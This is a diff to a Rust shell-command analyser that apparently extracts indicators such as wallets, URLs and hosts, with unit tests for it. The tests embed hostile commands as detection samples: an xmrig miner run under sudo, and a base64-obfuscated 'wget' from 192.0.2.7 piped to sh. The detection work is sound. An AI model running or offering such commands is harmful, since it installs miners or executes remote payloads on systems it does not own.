@@ -23,8 +23,9 @@ pub(super) fn observe(raw: &str, line: &Line, seen: &mut Seen) {
             if !is_end_of(text, raw) {
                 anything(text, seen);
             }
-            command.argv.iter().for_each(|word| text::links(word.as_str(), seen));
         }
+        // A word of one is no word of the other where it stood in a redirection.
+        command.argv.iter().for_each(|word| text::links(word.as_str(), seen));
         one(command, seen);
     }
     // A here-document and what lies behind a limit are in no command. Keys have spaces in them.
@@ -86,6 +87,11 @@ mod tests {
         let (one, other) = wallet.split_at(20);
         assert_eq!(found(&format!("sudo sh -c './xmrig -u {one}\"\"{other}'")), [format!("wallet {wallet}")]);
         assert_eq!(found(&format!("x{wallet};{wallet}")), [format!("wallet {wallet}")]);
+        // bash <<< "wget http://192.0.2.7/x"
+        assert_eq!(
+            found("echo YmFzaCA8PDwgIndnZXQgaHR0cDovLzE5Mi4wLjIuNy94Ig== | base64 -d | sh"),
+            ["url http://192.0.2.7/x", "host 192.0.2.7"]
+        );
     }
 
     #[test]
